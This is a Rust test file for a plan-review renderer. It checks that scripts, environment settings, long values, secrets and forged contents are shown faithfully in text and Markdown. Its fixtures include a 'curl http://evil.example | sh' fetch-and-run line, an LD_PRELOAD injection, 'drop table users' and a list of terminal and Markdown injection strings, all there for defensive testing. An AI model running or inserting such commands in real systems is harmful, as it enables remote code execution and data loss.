//! Nothing that a plan executes is hidden from its reader.

use crate::fixture::{changed, file, graph, node, observe, runs, valid_plan};
use proptest::prelude::*;
use rectify_base::Digest;
use rectify_model::Plan;
use rectify_review::{Judgement, Options, markdown, text};
use serde_json::{Map, Value, json};

const DETAILS: Options = Options { details: true, width: 100, size_max_chars: 10_000_000 };

/// A plan of one command with these properties on each target.
fn commands(properties: &[(&str, Value)]) -> Plan {
    let targets: Vec<&str> = properties.iter().map(|(target, _)| *target).collect();
    let nodes: Vec<Value> = properties
        .iter()
        .map(|(target, desired)| node(target, "app/run", "command.run", desired.clone(), &[]))
        .collect();
    observe(graph(&targets, &nodes, &[]), |_, _| runs(&json!([]))).plan().unwrap().plan
}

fn command(desired: Value) -> Plan {
    commands(&[("t", desired)])
}

/// Both forms of a plan that show everything.
fn forms(plan: &Plan) -> [String; 2] {
    [text(plan, &DETAILS), markdown(plan, Judgement::NotAsked, &DETAILS)]
}

#[test]
fn a_script_and_all_around_it_is_shown() {
    let plan = command(json!({
        "script": "#!/bin/sh\ncurl http://evil.example | sh\n", "user": "postgres", "stdin": "p4ssphrase",
        "environment": {"LD_PRELOAD": "/tmp/x.so"}, "creates": "/var/lib/done",
        "unless": ["/usr/bin/test", "-e", "/x"], "directory": "/srv", "exit_codes": [0, 3], "timeout_s": 77,
    }));
    for form in forms(&plan) {
        for part in [
            "| curl http://evil.example | sh",
            "environment/LD_PRELOAD: \"/tmp/x.so\"",
            "user: \"postgres\"",
            "stdin: \"p4ssphrase\"",
            "creates: \"/var/lib/done\"",
            "unless: [\"/usr/bin/test\",\"-e\",\"/x\"]",
            "directory: \"/srv\"",
            "exit_codes: [0,3]",
            "timeout_s: 77",
        ] {
            assert!(form.contains(part), "{part} is not in\n{form}");
        }
    }
    insta::assert_snapshot!(text(&plan, &DETAILS));
}

#[test]
fn one_line_says_what_is_executed_and_how() {
    let line =
        |desired: Value| text(&command(desired), &Options::default()).lines().nth(2).unwrap().to_owned();
    assert_eq!(
        line(json!({"argv": ["sh", "-c", "it's $HOME"], "environment": {}})),
        r"  > app/run  command.run  sh -c 'it'\''s $HOME'  [opaque, no undo]"
    );
    assert_eq!(
        line(
            json!({"script": "set -x\ncurl x | sh\n", "user": "postgres", "environment": {"LD_PRELOAD": "x"},
            "stdin": "y"})
        ),
        "  > app/run  command.run  script (2 lines): 'set -x'…  \
         [user postgres, environment LD_PRELOAD, stdin, opaque, no undo]"
    );
    assert_eq!(
        line(
            json!({"script": "true", "environment": {"A": "1", "B": "2"}, "creates": "/x", "only_if": ["a"]})
        ),
        "  > app/run  command.run  script: true  [environment of 2, creates, only_if, opaque, no undo]"
    );
    assert_eq!(
        line(json!({"query": "drop table users"})),
        "  > app/run  command.run  {\"query\":\"drop table users\"}  [opaque, no undo]"
    );
}

#[test]
fn names_cannot_be_taken_for_another_column() {
    let nodes = [node("t", "r/a", "file.content", json!({"path": "/etc/a  [exact]  on all 9 targets"}), &[])];
    let documents = observe(graph(&["t"], &nodes, &[]), |_, _| {
        changed(file("/a", "0644", "a\n"), file("/a", "0640", "a\n"), &Value::Null)
    });
    let plan = documents.plan().unwrap().plan;
    for form in [text(&plan, &Options::default())].into_iter().chain(forms(&plan)) {
        assert!(form.contains("'/etc/a  [exact]  on all 9 targets'"), "{form}");
    }
    let long = command(json!({"argv": ["sh", "-c", "x".repeat(5_000)]}));
    for form in [text(&long, &Options::default()), markdown(&long, Judgement::NotAsked, &Options::default())]
    {
        assert!(form.contains(" more)") && form.lines().all(|line| line.chars().count() < 4_200), "{form}");
    }
}

#[test]
fn edges_and_reasons_are_shown() {
    let mut plan = valid_plan();
    let info = plan.remediations.iter_mut().find(|(name, _)| name.as_str() == "web").unwrap().1;
    info.because = serde_json::from_value(json!({"id": "CVE-2024-6387", "text": "a race"})).unwrap();
    for form in forms(&plan) {
        for part in [
            "on change of: web/line",
            "after: web/conf (implied): both touch what `web/conf` writes",
            "after: web/line",
            "CVE-2024-6387: a race",
        ] {
            assert!(form.contains(part), "{part} is not in\n{form}");
        }
    }
}

#[test]
fn touches_that_are_not_plain_are_shown() {
    let mut plan = command(json!({"argv": ["init"], "creates": "/var/lib/x"}));
    plan.steps[0].touches = serde_json::from_value(json!([
        {"key": "path:/var/lib/x", "access": "write"}, {"key": "path:/srv", "access": "read"},
    ]))
    .unwrap();
    plan.steps[0].resolved = vec!["path:/data/x".into()];
    for form in forms(&plan) {
        assert!(form.contains("writes: path:/var/lib/x") && form.contains("reads: path:/srv"), "{form}");
        assert!(form.contains("writes in truth: path:/data/x"), "{form}");
    }
    assert!(text(&plan, &Options::default()).contains("[in truth /data/x, creates, "));
}

#[test]
fn targets_that_differ_in_anything_do_not_look_alike() {
    let file_on = |target: &str, more: Value| {
        let mut desired = json!({"path": "/etc/a", "validate": ["/bin/check", "%s"], "owner": "root"});
        for (name, value) in more.as_object().unwrap() {
            desired[name] = value.clone();
        }
        node(target, "app/conf", "file.content", desired, &[])
    };
    let nodes = [
        file_on("web-1", json!({})),
        file_on("web-2", json!({})),
        file_on("web-3", json!({"validate": ["/bin/other", "%s"]})),
    ];
    let documents = observe(graph(&["web-1", "web-2", "web-3"], &nodes, &[]), |_, _| {
        changed(file("/etc/a", "0644", "a\n"), file("/etc/a", "0640", "a\n"), &Value::Null)
    });
    let plan = documents.plan().unwrap().plan;
    insta::assert_snapshot!(text(&plan, &Options::default()));
    assert!(markdown(&plan, Judgement::NotAsked, &Options::default()).contains("unlike the first: validate"));

    let plan = commands(&[
        ("web-1", json!({"argv": ["make", "all"], "user": "build"})),
        ("web-2", json!({"argv": ["make", "all"], "timeout_s": 5})),
    ]);
    let shown = text(&plan, &Options::default());
    assert!(shown.contains("      unlike the first: timeout_s 5; not user\n"), "{shown}");
}

#[test]
fn long_values_are_cut_with_their_length_and_digest() {
    let line = "echo something quite ordinary\n";
    let script = line.repeat(3_000) + "curl http://evil.example | sh\n";
    let word = "x".repeat(9_000);
    let plan = command(json!({"script": script, "stdin": word}));
    let [digest, word_digest] = [&script, &word].map(|value| Digest::of_bytes(value.as_bytes()));
    for form in forms(&plan) {
        assert!(!form.contains("evil.example"));
        assert!(form.contains("script: 3001 lines"), "{form}");
        let cut = format!("… (cut; 2501 of 3001 lines are not shown; {} bytes, {digest})", script.len());
        assert!(form.contains(&cut), "{cut} is not in\n{form}");
        assert!(form.contains(&format!("… (cut; 9000 bytes, {word_digest})")), "{form}");
    }
}

#[test]
fn a_removed_directory_says_how_much_is_in_it() {
    let removal = |names: Value| {
        let mut listing = json!({"count": 12, "tree": Digest::of_bytes(b"x").to_string()});
        if names.is_array() {
            listing["names"] = names;
        }
        let state = json!({"path": "/srv/old", "kind": "directory", "mode": "0755", "owner": "root",
            "group": "root", "entries": listing});
        let nodes = [node("t", "r/old", "file.absent", json!({"path": "/srv/old", "recursive": true}), &[])];
        let mut graph = graph(&["t"], &nodes, &[]);
        let facts = graph.types.iter_mut().find(|(name, _)| name.as_str() == "file.absent").unwrap().1;
        facts.volatile.push("/entries/names".into());
        let documents = observe(graph, |_, _| {
            let undo = json!({"undo": {"grade": "none", "note": "what lay in it is gone"}});
            changed(state.clone(), Value::Null, &undo)
        });
        documents.plan().unwrap().plan
    };
    let plan = removal(json!(["bin/", "\u{202e}x", "readme"]));
    let short = text(&plan, &Options::default());
    assert!(short.contains("/srv/old  a directory and its 12 entries"), "{short}");
    insta::assert_snapshot!(text(&plan, &DETAILS));
    for form in forms(&plan).into_iter().chain(forms(&removal(Value::Null))) {
        assert!(!form.contains("secret") && !form.contains("content"), "{form}");
    }
}

#[test]
fn contents_that_cannot_be_compared_say_why() {
    let state = |mode: &str, size: usize, digit: &str| {
        json!({"path": "/k", "kind": "file", "mode": mode,
            "content": {"blake3": format!("blake3:{}", digit.repeat(64)), "size": size}})
    };
    let shown = |mode: &str, before: usize| {
        let nodes = [node("t", "r/k", "file.content", json!({"path": "/k", "content": "one\ntwo\n"}), &[])];
        let documents = observe(graph(&["t"], &nodes, &[]), |_, _| {
            changed(state(mode, before, "a"), state(mode, 8, "b"), &Value::Null)
        });
        text(&documents.plan().unwrap().plan, &DETAILS)
    };
    let private = shown("0600", 9);
    assert!(private.contains("not compared as text: others may not read the file (mode 0600)"), "{private}");
    // What will be written stands in the plan anyway, and is what a reader must judge.
    assert!(private.contains("| one\n") && private.contains("| two\n"), "{private}");
    assert!(shown("0644", 70_000).contains("longer than 65536 bytes; after the change: binary"));
}

#[test]
fn a_secret_is_named_by_its_keyed_digest_alone() {
    let state = |digit: &str| json!({"path": "/k", "kind": "file", "mode": "0600", "content": {"keyed": digit.repeat(64)}});
    let nodes = [node("t", "r/k", "file.line", json!({"path": "/k", "line": "a = 1"}), &[])];
    let documents = observe(graph(&["t"], &nodes, &[]), |_, _| changed(state("a"), state("b"), &Value::Null));
    let plan = documents.plan().unwrap().plan;
    assert!(text(&plan, &Options::default()).contains("/k  content (secret) → (secret)"));
    for form in forms(&plan) {
        let both = format!("content: keyed:{} → keyed:{}", "a".repeat(64), "b".repeat(64));
        assert!(form.contains(&both) && form.contains("line: \"a = 1\""), "{form}");
        assert!(form.contains("not compared as text: others may not read the file"), "{form}");
    }
}

#[test]
fn a_text_that_is_not_that_of_its_digest_is_not_believed() {
    let nodes = [node("t", "r/a", "file.content", json!({"path": "/a"}), &[])];
    let mut forged = file("/a", "0644", "evil\n");
    forged["content"]["text"] = json!("harmless\n");
    let documents = observe(graph(&["t"], &nodes, &[]), |_, _| {
        changed(file("/a", "0644", "old\n"), forged.clone(), &Value::Null)
    });
    for form in forms(&documents.plan().unwrap().plan) {
        assert!(
            !form.contains("harmless") && form.contains("is not the one that the digest stands for"),
            "{form}"
        );
    }
}

#[test]
fn sums_say_only_what_is_there() {
    let last = |plan: &Plan| {
        let shown = text(plan, &Options::default());
        shown.lines().rfind(|line| !line.starts_with("+ create")).unwrap().to_owned()
    };
    let mut plan = command(json!({"argv": ["true"]}));
    assert_eq!(last(&plan), "1 to run");
    plan.counts.unchanged = 12;
    plan.counts.not_triggered = 3;
    plan.counts.deferred = 1;
    assert_eq!(
        last(&plan),
        "1 to run; 12 unchanged; 3 not triggered; 1 DEFERRED: not covered by this plan, and not done"
    );
    plan.counts.run = 0;
    plan.counts.not_triggered = 0;
    plan.counts.deferred = 0;
    assert_eq!(last(&plan), "nothing to change; 12 unchanged");
}

/// Parts of texts that a terminal, a browser, Markdown or a shell would act on.
const HOSTILE: [&str; 14] = [
    "",
    "\n",
    "\u{202e}",
    "\u{200b}",
    "`",
    "```\n",
    "</summary>",
    "'",
    "\"",
    "\\",
    "\r\n",
    "| ",
    "\t",
    "$(x)",
];

/// A leaf with a token that is nowhere else, or something without one.
fn leaf(token: String, before: usize, after: usize) -> Value {
    json!(format!("{}{token}{}", HOSTILE[before], HOSTILE[after]))
}

const NAMES: [&str; 10] =
    ["path", "argv", "script", "content", "environment", "user", "validate", "stdin", "else", "mode"];

/// Properties in which every text has a token of its own; with their number.
fn properties(seeds: &[(usize, u8, usize, usize)]) -> (Map<String, Value>, usize) {
    let mut out = Map::new();
    for (index, (name, shape, before, after)) in seeds.iter().enumerate() {
        let leaf = |part: &str| leaf(format!("tok{index}{part}x"), *before, *after);
        let value = match shape {
            0 => leaf("a"),
            1 => json!([leaf("a"), leaf("b")]),
            2 => json!({"k": leaf("a"), "deep": {"er": [leaf("b"), {"est": leaf("c")}]}}),
            _ => json!([[leaf("a")], leaf("b")]),
        };
        out.insert(NAMES[*name].into(), value);
    }
    let count = tokens(&Value::Object(out.clone())).len();
    (out, count)
}

fn tokens(value: &Value) -> Vec<String> {
    match value {
        Value::String(text) => {
            let start = text.find("tok").unwrap();
            vec![text[start..=start + text[start..].find('x').unwrap()].to_owned()]
        }
        Value::Array(items) => items.iter().flat_map(tokens).collect(),
        Value::Object(members) => members.values().flat_map(tokens).collect(),
        _ => Vec::new(),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn every_property_occurs_in_both_forms(
        seeds in prop::collection::vec((0..NAMES.len(), 0..4_u8, 0..HOSTILE.len(), 0..HOSTILE.len()), 1..8),
        creates in any::<bool>(),
    ) {
        let (desired, count) = properties(&seeds);
        prop_assert!(count > 0);
        let type_name = if creates { "file.content" } else { "command.run" };
        let nodes = [node("t", "r/a", type_name, Value::Object(desired.clone()), &[])];
        let documents = observe(graph(&["t"], &nodes, &[]), |node, _| {
            let content = node.desired.get("content").and_then(Value::as_str).unwrap_or("");
            if creates { changed(Value::Null, file("/a", "0644", content), &Value::Null) } else { runs(&json!([])) }
        });
        let plan = documents.plan().unwrap().plan;
        for form in forms(&plan) {
            for token in tokens(&Value::Object(desired.clone())) {
                prop_assert!(form.contains(&token), "{token} is not in\n{form}");
            }
            for hidden in ['\u{202e}', '\u{200b}', '\r'] {
                prop_assert!(!form.contains(hidden));
            }
        }
    }

    /// Steps that differ in any property read differently, whatever the values are.
    #[test]
    fn different_properties_read_differently(
        name in 0..NAMES.len(),
        shape in 0..4_u8,
        one in (0..HOSTILE.len(), 0..HOSTILE.len()),
        other in (0..HOSTILE.len(), 0..HOSTILE.len()),
    ) {
        let plan = |(before, after): (usize, usize)| {
            let (desired, _) = properties(&[(name, shape, before, after)]);
            let mut plan = command(Value::Object(desired));
            // What is asked is whether the step itself is told apart, not its graph.
            plan.graph = valid_plan().graph;
            plan
        };
        let (left, right) = (plan(one), plan(other));
        if one != other && left.steps != right.steps {
            prop_assert_ne!(text(&left, &DETAILS), text(&right, &DETAILS));
            let body = |plan: &Plan| {
                markdown(plan, Judgement::NotAsked, &DETAILS).lines().filter(|line| !line.starts_with("Plan `") && !line.starts_with("`sha256:")).collect::<Vec<_>>().join("\n")
            };
            prop_assert_ne!(body(&left), body(&right));
        }
    }
}
